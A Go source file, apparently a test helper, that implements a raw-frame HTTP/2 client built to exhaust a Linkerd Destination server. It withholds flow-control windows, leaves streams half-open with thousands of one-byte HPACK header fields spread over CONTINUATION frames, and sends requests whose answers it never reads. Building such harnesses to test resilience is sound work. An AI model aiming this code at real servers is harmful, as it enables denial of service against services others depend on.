// Package attack holds clients that mean a Destination server harm. They write HTTP/2 frames, so that
// nothing keeps them from what a library would not do.
package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"

	pb "github.com/linkerd/linkerd2-proxy-api/go/destination"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"
)

// A Client is one connection. It acknowledges settings and answers pings, and never opens a window: what it
// is sent beyond 64 KiB waits in the server.
type Client struct {
	conn net.Conn
	done chan struct{} // closed once nothing comes any more

	mu      sync.Mutex // guards all below
	framer  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	next    uint32
	open    map[uint32]bool
	ended   int
	lost    bool          // the server has closed the connection
	changed chan struct{} // closed when a stream ends
}

// Dial opens a connection.
func Dial(ctx context.Context, addr string) (*Client, error) {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	c := &Client{
		conn:    conn,
		done:    make(chan struct{}),
		framer:  http2.NewFramer(conn, conn),
		next:    1,
		open:    map[uint32]bool{},
		changed: make(chan struct{}),
	}
	c.encoder = hpack.NewEncoder(&c.block)
	_, err = io.WriteString(conn, http2.ClientPreface)
	if err := errors.Join(err, c.framer.WriteSettings()); err != nil {
		_ = conn.Close()
		return nil, err
	}
	go c.read()
	return c, nil
}

// Close hangs up and waits for the reader.
func (c *Client) Close() {
	_ = c.conn.Close()
	<-c.done
}

func (c *Client) read() {
	defer close(c.done)
	for {
		frame, err := c.framer.ReadFrame()
		c.mu.Lock()
		if err != nil {
			c.lost = true
			c.note(0)
			c.mu.Unlock()
			return
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				_ = c.framer.WriteSettingsAck() // a connection that is gone shows in the next read
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = c.framer.WritePing(true, f.Data)
			}
		case *http2.RSTStreamFrame:
			c.note(f.StreamID)
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				c.note(f.StreamID)
			}
		}
		c.mu.Unlock()
	}
}

// note needs c.mu.
func (c *Client) note(stream uint32) {
	if c.open[stream] {
		delete(c.open, stream)
		c.ended++
	}
	close(c.changed)
	c.changed = make(chan struct{})
}

// Open returns how many streams are neither refused nor ended.
func (c *Client) Open() int {
	n, _ := c.state()
	return n
}

func (c *Client) state() (open int, changed <-chan struct{}) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.lost {
		return 0, c.changed
	}
	return len(c.open), c.changed
}

// Ended waits until the server has ended every stream, or the connection.
func (c *Client) Ended(ctx context.Context) error {
	for {
		open, changed := c.state()
		if open == 0 {
			return nil
		}
		select {
		case <-changed:
		case <-ctx.Done():
			return fmt.Errorf("%d streams are open: %w", open, context.Cause(ctx))
		}
	}
}

// HalfOpen opens streams whose request never comes, each with as many more header fields, of one byte each on
// the wire. It returns early if the server hangs up.
func (c *Client) HalfOpen(streams, fields int) {
	for range streams {
		if _, err := c.begin(fields); err != nil {
			return
		}
	}
}

// Get asks for a Service, and will not read the answer.
func (c *Client) Get(authority string) error {
	request, err := proto.Marshal(&pb.GetDestination{Scheme: "k8s", Path: authority})
	if err != nil {
		return err
	}
	stream, err := c.begin(0)
	if err != nil {
		return err
	}
	message := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(request))), request...)
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.framer.WriteData(stream, true, message)
}

// begin opens a stream.
func (c *Client) begin(fields int) (uint32, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.block.Reset()
	for _, f := range [][2]string{
		{":method", "POST"},
		{":scheme", "http"},
		{":path", pb.Destination_Get_FullMethodName},
		{":authority", "x"},
		{"content-type", "application/grpc"},
		{"te", "trailers"},
	} {
		_ = c.encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // into memory
	}
	if fields > 0 { // the first one enters the table, and any further one is a byte
		_ = c.encoder.WriteField(hpack.HeaderField{Name: "a", Value: "b"})
		first := c.block.Len()
		_ = c.encoder.WriteField(hpack.HeaderField{Name: "a", Value: "b"})
		c.block.Write(bytes.Repeat(c.block.Bytes()[first:], fields))
	}
	stream, block := c.next, c.block.Bytes()
	c.next += 2
	c.open[stream] = true
	const frame = 16000
	part := block[:min(len(block), frame)]
	err := c.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID:      stream,
		BlockFragment: part,
		EndHeaders:    len(block) <= frame,
	})
	for block = block[len(part):]; err == nil && len(block) > 0; block = block[len(part):] {
		part = block[:min(len(block), frame)]
		err = c.framer.WriteContinuation(stream, len(block) <= frame, part)
	}
	return stream, err
}
